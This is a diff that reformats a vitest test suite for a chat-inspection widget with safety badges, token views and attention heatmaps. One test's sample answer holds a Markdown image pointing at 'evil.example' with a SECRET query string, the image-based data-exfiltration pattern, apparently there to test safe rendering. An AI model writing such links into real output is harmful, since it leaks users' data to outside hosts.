@@ -1,11 +1,11 @@
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import widget from "../src/index";
-import { toolCard } from "../src/views/tools";
-import { safetyBadge } from "../src/views/safety";
 import { summarize } from "../src/state";
 import type { AttentionRequest, ChatEvent, SafetyDecision, TurnRecord } from "../src/types";
+import { safetyBadge } from "../src/views/safety";
+import { toolCard } from "../src/views/tools";
 import { baseTraits, FakeModel } from "./fake_model";
-import { FIX, completedOf, tokensOf } from "./helpers";
+import { completedOf, FIX, tokensOf } from "./helpers";
 
 const tokenHexOf = (fx: TurnRecord, id: number) => fx.pieces[String(id)][1].replace(/(..)(?!$)/g, "$1 ");
 
@@ -49,7 +49,9 @@ describe("render from the turns trait", () => {
     expect(q("title").textContent).toBe("Capitals");
     expect(host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
     expect(host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe("2");
-    expect(host.querySelector(".cf-block-msg")!.textContent).toContain("This was blocked by the safety policy (S9 Indiscriminate Weapons).");
+    expect(host.querySelector(".cf-block-msg")!.textContent).toContain(
+      "This was blocked by the safety policy (S9 Indiscriminate Weapons).",
+    );
     const redactedTurn = host.querySelector(`[data-turn="${FIX.redacted.turn_id}"]`)!;
     expect(redactedTurn.querySelector(".cf-span-orig")!.textContent).toBe("jane.doe@example.com");
     expect(redactedTurn.querySelector(".cf-span-repl")!.textContent).toBe("[EMAIL]");
@@ -71,7 +73,9 @@ describe("render from the turns trait", () => {
   it("context tab draws the bar from the last round and the exact prompt", () => {
     mount({ turns: [FIX.tool] });
     const bar = q("context-bar");
-    const widths = Object.fromEntries([...bar.children].map((c) => [c.getAttribute("data-kind"), parseFloat((c as HTMLElement).style.width)]));
+    const widths = Object.fromEntries(
+      [...bar.children].map((c) => [c.getAttribute("data-kind"), parseFloat((c as HTMLElement).style.width)]),
+    );
     expect(widths.tools).toBeCloseTo((266 / 8192) * 100, 2);
     expect(widths.generated).toBeCloseTo(((34 + 9) / 8192) * 100, 2); // the call's 34 tokens, then the answer's 9
     const prompt = q("prompt-tokens");
@@ -84,7 +88,11 @@ describe("safety badges and tool cards", () => {
   const decisions = (f: TurnRecord) => f.events.filter((e): e is SafetyDecision => e.type === "safety_decision");
   it("one badge per decision, by layer and action", () => {
     const badges = decisions(FIX.redacted).map(safetyBadge);
-    expect(badges.map((b) => `${b.dataset.layer}:${b.dataset.action}`)).toEqual(["input:redact", "model:allow", "output:allow"]);
+    expect(badges.map((b) => `${b.dataset.layer}:${b.dataset.action}`)).toEqual([
+      "input:redact",
+      "model:allow",
+      "output:allow",
+    ]);
     expect(badges[0].textContent).toContain("redact");
     expect(badges[0].title).toContain("pii:email");
     const blocked = decisions(FIX.blocked).map(safetyBadge);
@@ -129,7 +137,12 @@ describe("fake model: live stream, controls and messages", () => {
     const model = mount({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" });
     expect(model.sent[0].content).toEqual({ type: "resume", turn_id: fx.turn_id, after: -1 });
     for (let i = 0; i < fx.events.length; i += 5) {
-      model.message({ type: "events", turn_id: fx.turn_id, events: fx.events.slice(Math.max(0, i - 2), i + 5), pieces: fx.pieces });
+      model.message({
+        type: "events",
+        turn_id: fx.turn_id,
+        events: fx.events.slice(Math.max(0, i - 2), i + 5),
+        pieces: fx.pieces,
+      });
     }
     expect(qa("token").length).toBe(tokensOf(fx).length);
     expect([...qa("token")].map((c) => c.textContent).join("")).toBe(completedOf(fx).text);
@@ -152,9 +165,13 @@ describe("fake model: live stream, controls and messages", () => {
 
   it("resume after the events a view already has", () => {
     const fx = FIX.answer;
-    const model = new FakeModel(baseTraits({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" }));
+    const model = new FakeModel(
+      baseTraits({ live: { turn_id: fx.turn_id, prewarm: null, fork_of: "" }, status: "generating" }),
+    );
     cleanup = widget.render({ model, el: host });
-    expect(model.sent.filter((m) => m.content.type === "resume")).toEqual([{ content: { type: "resume", turn_id: fx.turn_id, after: -1 }, buffers: undefined }]);
+    expect(model.sent.filter((m) => m.content.type === "resume")).toEqual([
+      { content: { type: "resume", turn_id: fx.turn_id, after: -1 }, buffers: undefined },
+    ]);
   });
 
   it("Stop sends {type: stop} while generating; Send and Enter send the text", () => {
@@ -191,7 +208,9 @@ describe("fake model: live stream, controls and messages", () => {
     }
     expect(model.sent.filter((m) => m.content.type === "draft")).toEqual([]);
     vi.advanceTimersByTime(300);
-    expect(model.sent.filter((m) => m.content.type === "draft").map((m) => m.content)).toEqual([{ type: "draft", text: "What" }]);
+    expect(model.sent.filter((m) => m.content.type === "draft").map((m) => m.content)).toEqual([
+      { type: "draft", text: "What" },
+    ]);
     model.set("status", "generating");
     input.value = "What is";
     input.dispatchEvent(new Event("input"));
@@ -215,7 +234,9 @@ describe("fake model: live stream, controls and messages", () => {
   it("fork from a token alternative of the latest idle turn", () => {
     const model = mount({ turns: [FIX.answer] });
     q("token").dispatchEvent(new MouseEvent("click", { bubbles: true }));
-    const fork = [...host.querySelectorAll(".cf-popover button")].find((b) => b.textContent === "regenerate from here") as HTMLButtonElement;
+    const fork = [...host.querySelectorAll(".cf-popover button")].find(
+      (b) => b.textContent === "regenerate from here",
+    ) as HTMLButtonElement;
     fork.click();
     expect(last(model).content).toEqual({ type: "fork", turn_id: FIX.answer.turn_id, index: 0, token_id: 504 });
     expect(host.querySelector(".cf-alt-cut")).not.toBeNull();
@@ -230,7 +251,22 @@ describe("fake model: live stream, controls and messages", () => {
     expect(req).toMatchObject({ type: "attention", turn_id: FIX.answer.turn_id, layer: 3, head: -1, mode: "tokens" });
     const n = 50;
     const bits = new Uint16Array(n * n).fill(0x3c00);
-    const msg = { type: "attention", request_id: req.request_id, turn_id: FIX.answer.turn_id, layer: 3, head: -1, mode: "tokens", shape: [n, n], dtype: "float16", tokens: n, prompt_tokens: 38, pool: 1, rows_range: [0, n], cols_range: [0, n], segments: [] };
+    const msg = {
+      type: "attention",
+      request_id: req.request_id,
+      turn_id: FIX.answer.turn_id,
+      layer: 3,
+      head: -1,
+      mode: "tokens",
+      shape: [n, n],
+      dtype: "float16",
+      tokens: n,
+      prompt_tokens: 38,
+      pool: 1,
+      rows_range: [0, n],
+      cols_range: [0, n],
+      segments: [],
+    };
     model.message({ ...msg, request_id: "someone-else" }, [new DataView(bits.buffer)]);
     expect(q("heatmap").hasAttribute("data-render-ms")).toBe(false);
     model.message(msg, [new DataView(bits.buffer)]);
@@ -260,7 +296,10 @@ describe("fake model: live stream, controls and messages", () => {
 describe("answers: rendered text, or tokens", () => {
   it("shows the answer as rendered Markdown by default, the chips one click away", () => {
     const answer = "Compare:\n\n```python\nif a < b:\n    print('<b>')\n```\n\n![x](https://evil.example/?q=SECRET)";
-    const events = FIX.answer.events.map((e): ChatEvent => (e.type === "token" && e.index === 0 ? { ...e, text: answer } : e.type === "token" ? { ...e, text: "" } : e));
+    const events = FIX.answer.events.map(
+      (e): ChatEvent =>
+        e.type === "token" && e.index === 0 ? { ...e, text: answer } : e.type === "token" ? { ...e, text: "" } : e,
+    );
     mount({ turns: [{ ...FIX.answer, events }] });
     const stream = q("conversation");
     expect(stream.getAttribute("data-view")).toBe("text");
@@ -277,7 +316,15 @@ describe("answers: rendered text, or tokens", () => {
   it("a stopped turn says [stopped], as the magic and the CLI do", () => {
     const fx = FIX.answer;
     const done = completedOf(fx);
-    const cancelled = { type: "cancelled", sequence_number: done.sequence_number, turn_id: fx.turn_id, timestamp: done.timestamp, text: done.text, usage: {}, timings: {} } as ChatEvent;
+    const cancelled = {
+      type: "cancelled",
+      sequence_number: done.sequence_number,
+      turn_id: fx.turn_id,
+      timestamp: done.timestamp,
+      text: done.text,
+      usage: {},
+      timings: {},
+    } as ChatEvent;
     mount({ turns: [{ ...fx, events: fx.events.map((e) => (e.type === "completed" ? cancelled : e)) }] });
     expect(q("stopped").textContent).toBe("[stopped]");
     expect(host.querySelector(".cf-turn-foot")!.textContent).toContain("stopped");
@@ -288,12 +335,18 @@ describe("answers: rendered text, or tokens", () => {
 describe("the panel keeps its place", () => {
   it("tab, answer view, selected token, open popover and open tool card survive a turn's end", () => {
     const live = FIX.answer;
-    const model = mount({ turns: [FIX.tool], live: { turn_id: live.turn_id, prewarm: null, fork_of: "" }, status: "generating" });
+    const model = mount({
+      turns: [FIX.tool],
+      live: { turn_id: live.turn_id, prewarm: null, fork_of: "" },
+      status: "generating",
+    });
     const root = host.querySelector(".cf-root");
     model.message({ type: "events", turn_id: live.turn_id, events: live.events.slice(0, -3), pieces: live.pieces });
     (q("tab-safety") as HTMLButtonElement).click();
     (q("view-tokens") as HTMLButtonElement).click();
-    const chip = host.querySelector(`[data-testid="token"][data-turn="${live.turn_id}"][data-index="1"]`) as HTMLElement;
+    const chip = host.querySelector(
+      `[data-testid="token"][data-turn="${live.turn_id}"][data-index="1"]`,
+    ) as HTMLElement;
     chip.dispatchEvent(new MouseEvent("click", { bubbles: true }));
     expect(q("popover").hidden).toBe(false);
     expect(host.querySelectorAll('[data-testid="fork"]').length).toBe(0); // still generating: no fork yet
@@ -335,15 +388,31 @@ describe("token popover", () => {
   it("says which setting cut each alternative, and labels both probabilities", () => {
     mount({ turns: [FIX.tool] });
     (q("view-tokens") as HTMLButtonElement).click();
-    host.querySelector('[data-testid="token"][data-index="2"]')!.dispatchEvent(new MouseEvent("click", { bubbles: true }));
+    host
+      .querySelector('[data-testid="token"][data-index="2"]')!
+      .dispatchEvent(new MouseEvent("click", { bubbles: true }));
     const pop = q("popover");
-    expect([...pop.querySelectorAll("th")].map((t) => t.textContent)).toEqual(["alternative", "probability", "after sampling", ""]);
+    expect([...pop.querySelectorAll("th")].map((t) => t.textContent)).toEqual([
+      "alternative",
+      "probability",
+      "after sampling",
+      "",
+    ]);
     const reasons = [...pop.querySelectorAll('[data-testid="cut-reason"]')].map((r) => r.textContent);
     // token 2 of tool.json: top-p 0.9 kept only the first; the second was the model's favourite (53 %) until the
     // repetition penalty lowered it
-    expect(reasons).toEqual(["cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9", "cut by top-p 0.9"]);
-    expect(pop.textContent).toContain("sampled with temperature 0.2, top-k 0, top-p 0.9, min-p 0, repetition-penalty 1.1");
-    const bytes = [...pop.querySelectorAll("dd")][[...pop.querySelectorAll("dt")].findIndex((d) => d.textContent === "bytes")];
+    expect(reasons).toEqual([
+      "cut by top-p 0.9 (the repetition penalty lowered it)",
+      "cut by top-p 0.9 (the repetition penalty lowered it)",
+      "cut by top-p 0.9",
+      "cut by top-p 0.9",
+    ]);
+    expect(pop.textContent).toContain(
+      "sampled with temperature 0.2, top-k 0, top-p 0.9, min-p 0, repetition-penalty 1.1",
+    );
+    const bytes = [...pop.querySelectorAll("dd")][
+      [...pop.querySelectorAll("dt")].findIndex((d) => d.textContent === "bytes")
+    ];
     expect(bytes.className).toContain("cf-nowrap"); // hex bytes on one line
     expect(bytes.textContent).toBe(tokenHexOf(FIX.tool, tokensOf(FIX.tool)[2].token_id));
   });
@@ -370,7 +439,25 @@ describe("attention", () => {
     expect(req).toMatchObject({ type: "attention", turn_id: FIX.answer.turn_id, mode: "tokens" });
     const n = 50; // 38 prompt + 12 generated
     const bits = new Uint16Array(n * n).fill(0x3c00);
-    model.message({ type: "attention", request_id: req.request_id, turn_id: FIX.answer.turn_id, layer: 31, head: -1, mode: "tokens", shape: [n, n], dtype: "float16", tokens: n, prompt_tokens: 38, pool: 1, rows_range: [0, n], cols_range: [0, n], segments: [] }, [new DataView(bits.buffer)]);
+    model.message(
+      {
+        type: "attention",
+        request_id: req.request_id,
+        turn_id: FIX.answer.turn_id,
+        layer: 31,
+        head: -1,
+        mode: "tokens",
+        shape: [n, n],
+        dtype: "float16",
+        tokens: n,
+        prompt_tokens: 38,
+        pool: 1,
+        rows_range: [0, n],
+        cols_range: [0, n],
+        segments: [],
+      },
+      [new DataView(bits.buffer)],
+    );
     const rows = [...q("attention-rows").children].map((c) => c.textContent);
     const cols = [...q("attention-top").children].map((c) => c.textContent);
     expect(rows.length).toBe(25); // 50 > 48 labels: every second token
@@ -412,7 +499,15 @@ describe("popover", () => {
     const button = host.querySelector('[data-testid="fork"]');
     expect(button).not.toBeNull();
     const done = completedOf(FIX.answer);
-    const title = { type: "title_generated", sequence_number: done.sequence_number + 1, turn_id: FIX.answer.turn_id, timestamp: done.timestamp + 1, title: "Paris", latency_ms: 900, source: "model" } as ChatEvent;
+    const title = {
+      type: "title_generated",
+      sequence_number: done.sequence_number + 1,
+      turn_id: FIX.answer.turn_id,
+      timestamp: done.timestamp + 1,
+      title: "Paris",
+      latency_ms: 900,
+      source: "model",
+    } as ChatEvent;
     model.message({ type: "events", turn_id: FIX.answer.turn_id, events: [title], pieces: {} }); // a late title
     model.set("title", "Paris");
     expect(host.querySelector('[data-testid="fork"]')).toBe(button);
